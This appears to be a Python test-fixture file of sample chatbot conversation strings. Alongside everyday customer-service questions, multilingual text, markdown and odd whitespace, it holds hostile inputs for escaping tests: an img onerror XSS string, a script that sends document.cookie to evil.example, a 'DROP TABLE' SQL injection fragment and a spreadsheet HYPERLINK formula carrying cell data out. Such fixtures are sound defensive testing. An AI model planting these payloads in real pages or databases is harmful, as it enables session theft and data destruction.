"""What visitors and bots of the generated conversations say."""

#: Question and answer, the everyday part.
EVERYDAY = [
    ("Hello, what are your opening hours?", "We are open Monday to Friday, 9 am to 6 pm, and Saturday until 1 pm."),
    ("Where is my order? It should have been here on Tuesday.", "Your parcel left our warehouse yesterday."),
    ("Can I change the delivery address?", "Yes, as long as the parcel has not been handed to the carrier."),
    ("How do I reset my password?", "Choose **Forgot password** on the sign-in page and follow the e-mail."),
    ("Do you ship to Norway?", "Yes. Shipping takes 4 to 6 working days and costs 12 euros."),
    ("My invoice shows the wrong company name.", "I am sorry. Send us the right one and we issue a new invoice."),
    ("Is the blue one still in stock?", "There are 3 left in blue and 11 in grey."),
    ("What does the warranty cover?", "Two years, all defects of material and manufacture."),
    ("I want to cancel my subscription.", "You can cancel at any time under Settings, Billing, Cancel plan."),
    ("The app crashes when I open the map.", "Please update to version 4.2, which repairs that crash."),
    ("Do you offer discounts for schools?", "Schools and libraries get 30 % off every plan."),
    ("Thanks, that helped!", "You are welcome. Is there anything else I can do for you?"),
]

GREETING = "Hi there! 👋 I am the assistant of this site. How can I help you today?"
GENERATION_FAILED = "Sorry, something went wrong while generating the reply. Please try again."

MARKDOWN_TABLE = """Here is the comparison:

| Plan | Price | Seats |
|:-----|------:|:-----:|
| Free | 0 €   | 1     |
| Team | 49 €  | 10    |

1. Pick a plan
2. Press **Buy**
   - or *ask us* first
> Prices exclude VAT."""
MARKDOWN_CODE = """Run this:

```bash
curl -X POST 'https://api.example.com/v1?a=1&b=2' \\
    -d '{"x": 1}'
```

Then `exit 0`."""
MARKDOWN_LINKS = "See [our guide](https://example.com/guide?ref=a_b&x=1#top) or <https://example.com> ![logo](data:,x)"
RAW_HTML = '<div class="card"><b>Bold</b>&nbsp;&amp;<br/><img src=x onerror=alert(1)> 3 < 4 && 5 > 4</div>'
SCRIPT = "<script>document.location='https://evil.example/?c='+document.cookie</script>\"'--; DROP TABLE cases;"
JSON_TEXT = '{"intent": "refund", "slots": {"order": "A-1007", "amount": 12.5}, "text": "a \\"quoted\\" word\\n"}'
TEMPLATE_TRAPS = (
    "Dear {name}, ${user.name} {{ first_name }} %s %(total)d {0} {conversation_id} ${{{ \\1 $& ~!Contacts.Email~"
)
FORMULA = '=HYPERLINK("http://example.com?x="&A1,"click me")'
CRLF = "First line\r\nSecond line\r\n\r\nFourth line\rlone return\n"
ODD_WHITESPACE = (
    "\u00a0leading\u2003em\u200bzero\u202fnarrow\ttab   three  two\u2028line\u2029paragraph\u3000wide \ufeff end  "
)
CONTROL_CHARACTERS = "be\x00fore \x08back \x1b[31mred\x1b[0m bell\x07 \x7fdelete \x0bvertical \x0cfeed after"
CONTACTS = (
    "I am Ana Lúcia (ana.lucia+shop@example.com, +351 912 345 678), and my colleague is Bob O'Neil, "
    "bob@sub.example.co.uk, (555) 010-9999. Write to him, not to me."
)
FALSE_CONTACTS = "Order 4111-1111-1111, version 10.2.3@beta, @handle, part no. 555-0100-77, mail me at home @ night."
UNKNOWN_ANSWER = "I am sorry, this is not in my knowledge base. I was unable to find anything about it."
FLAGGED = "You are a useless machine and I hate this shop."

#: Language: what the visitor asks, what the bot answers.
LANGUAGES = {
    "arabic": (
        "مرحبا 👋 أين طلبي رقم ١٢٣٤؟ 😡",
        "أهلاً بك! 🙂 غادر طلبك المستودع أمس، وسيصل يوم الخميس ✅ إن شاء الله.",
    ),
    "hebrew": ("שלום, מתי אתם פתוחים ביום שישי?", "אנחנו פתוחים ביום שישי בין 9:00 ל-13:00. \u200f(RTL) שבת שלום!"),
    "chinese": ("你好，请问我的订单什么时候到？", "您好！您的包裹昨天已经发出，预计星期四送达。谢谢您的耐心等待。"),
    "japanese": (
        "注文をキャンセルできますか？",
        "はい、発送前でしたらキャンセルできます。「設定」からお手続きください。",
    ),
    "korean": ("배송비는 얼마인가요?", "5만원 이상 주문하시면 배송비가 무료입니다."),
    "french": (
        "Où en est ma commande n° 42 ? C’est urgent…",
        "Elle est partie hier ; vous l’aurez jeudi à midi, œuf de Noël compris.",
    ),
    "german": (
        "Größe M wäre schön – gibt’s die „Straße“-Jacke noch?",
        "Ja, in Größe M sind noch fünf Stück da. Grüße!",
    ),
    "thai": ("สวัสดีค่ะ มีบริการเก็บเงินปลายทางไหม", "มีค่ะ ค่าบริการ 30 บาท"),
    "emoji": ("👩‍👩‍👧‍👦🏳️‍🌈🇵🇹👍🏽❓", "e\u0301 is not é 🫠 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 is fine"),
}

#: Where a phone number or another system's id is the name of a conversation.
NAMES = ["+351912345678", "whatsapp:15550109999", "", "🙂", "Refund " * 50, "<b>Bold</b> name", 'O\'Neil; "x"']
